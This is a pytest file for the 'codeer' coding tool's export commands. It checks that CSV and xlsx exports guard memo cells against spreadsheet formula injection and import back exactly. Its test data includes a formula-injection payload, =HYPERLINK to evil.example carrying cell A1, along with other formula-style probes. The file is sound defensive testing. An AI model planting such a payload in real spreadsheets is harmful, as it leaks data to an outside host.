"""``codeer codings export`` goes through codeer's one table writer: a formula in a memo is guarded, an
``.xlsx`` name gets a real workbook, ``--excel`` writes Dutch Excel's CSV, a suffix without a writer is
refused; and every one of those files imports back to exactly the codings it came from. The guard as an
SQL expression (segments rows come out of the database neutralised) is the guard, on both backends."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from conftest import run_cli
from openpyxl import load_workbook
from sqlalchemy import String, literal, select
from test_backends import write_study

from codeer.analysis.segments import segment_rows
from codeer.formulas import guard, guard_sql, unguard
from codeer.store.database import open_database

MEMOS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "'=al met apostrof", "-3", "@SUM(1)", "gewoon"]


def test_guard_and_unguard_are_inverses() -> None:
    for text in [*MEMOS, "", "'", "''=x", "'gewoon", "+31 6", "\tinspringen", "a=b"]:
        assert unguard(guard(text)) == text
    assert guard("=1+1") == "'=1+1" and guard("'=1") == "''=1" and guard("'hoi") == "'hoi"


@pytest.fixture
def coded(tmp_path: Path, project: Path) -> Path:
    folder = write_study(tmp_path / "study")
    rows = ["transcript,passage,code,coder,start,end,memo"]
    rows += [
        f'vitens-q1,{n},herhaling,anouk,,,"{guard(memo).replace(chr(34), chr(34) * 2)}"'
        for n, memo in enumerate(MEMOS, 1)
    ]
    (folder / "codings.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    for args in (("codebook", "load", str(folder / "dienst.yaml")), ("import", str(folder / "vitens-q1.txt")),
                 ("codings", "import", str(folder / "codings.csv"))):  # fmt: skip
        result = run_cli(project, *args)
        assert result.code == 0, result.err
    return folder


def _memos_after_import(tmp_path: Path, folder: Path, exported: Path) -> list[str]:
    other = tmp_path / "other"
    other.mkdir()
    for args in (("codebook", "load", str(folder / "dienst.yaml")), ("import", str(folder / "vitens-q1.txt")),
                 ("codings", "import", str(exported))):  # fmt: skip
        result = run_cli(other, *args)
        assert result.code == 0, result.err
    back = other / "back.csv"
    assert run_cli(other, "codings", "export", str(back)).code == 0
    with back.open(encoding="utf-8", newline="") as handle:
        return [unguard(row["memo"]) for row in csv.DictReader(handle)]


def test_a_memo_that_is_a_formula_is_guarded_in_csv_and_imports_back_exactly(
    coded: Path, project: Path, tmp_path: Path
) -> None:
    out = tmp_path / "codings.csv"
    assert run_cli(project, "codings", "export", str(out)).code == 0
    with out.open(encoding="utf-8", newline="") as handle:
        written = [row["memo"] for row in csv.DictReader(handle)]
    assert written == ["'" + MEMOS[0], "''=al met apostrof", "'-3", "'@SUM(1)", "gewoon"]
    assert _memos_after_import(tmp_path, coded, out) == MEMOS


def test_an_xlsx_name_gets_a_real_workbook_that_imports_back(
    coded: Path, project: Path, tmp_path: Path
) -> None:
    out = tmp_path / "codings.xlsx"
    result = run_cli(project, "codings", "export", str(out))
    assert result.code == 0 and "5 coding(s)" in result.out
    sheet = load_workbook(out).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("transcript", "passage", "code", "coder", "start", "end", "memo")
    assert rows[1][:2] == ("vitens-q1", 1) and rows[1][6] == "'" + MEMOS[0]
    assert _memos_after_import(tmp_path, coded, out) == MEMOS


def test_dutch_excel_csv_imports_back(coded: Path, project: Path, tmp_path: Path) -> None:
    out = tmp_path / "codings-excel.csv"
    assert run_cli(project, "codings", "export", str(out), "--excel").code == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbftranscript;passage;code;coder;start;end;memo")
    assert _memos_after_import(tmp_path, coded, out) == MEMOS


def test_a_suffix_without_a_writer_is_refused(coded: Path, project: Path, tmp_path: Path) -> None:
    out = tmp_path / "codings.ods"
    result = run_cli(project, "codings", "export", str(out))
    assert result.code == 2 and "cannot write .ods: use .csv or .xlsx" in result.err
    assert not out.exists()


TRICKY = [
    *MEMOS,
    "",
    "'",
    "''",
    "''=x",
    "'''+1",
    "'gewoon",
    "=",
    "\t",
    "\r\nx",
    "\n=",
    " =1",
    "＝1",
    "é=",
    "'\t",
]


def test_the_guard_in_sql_is_the_guard(db_url: str) -> None:
    db = open_database(db_url)
    with db.read_session() as session:
        found = [session.scalar(select(guard_sql(literal(text, String)))) for text in TRICKY]
    db.close()
    assert found == [guard(text) for text in TRICKY]


def test_segments_are_written_guarded_as_every_table_is(coded: Path, project: Path, tmp_path: Path) -> None:
    db = open_database(f"sqlite:///{project / 'codeer.db'}")
    with db.read_session() as session:
        plain = [list(row) for row in segment_rows(session)]
    db.close()
    as_text = [
        [guard(v) if isinstance(v, str) else ("" if v is None else str(v)) for v in row] for row in plain
    ]
    out = tmp_path / "segments.csv"
    assert run_cli(project, "export", "segments", "-o", str(out)).code == 0
    with out.open(encoding="utf-8", newline="") as handle:
        written = list(csv.reader(handle))[1:]
    # columns end with memo, passage_memo, text
    assert written == as_text and {row[-3] for row in written} >= {"'" + MEMOS[0], "''=al met apostrof"}
    book = tmp_path / "segments.xlsx"
    assert run_cli(project, "export", "segments", "-o", str(book)).code == 0
    cells = [list(row) for row in load_workbook(book).worksheets[0].iter_rows(values_only=True)][1:]
    assert cells == [[(guard(v) or None) if isinstance(v, str) else v for v in row] for row in plain]
    shown = run_cli(project, "export", "segments")
    assert shown.code == 0 and "=al met apostrof" in shown.out and "''=al" not in shown.out
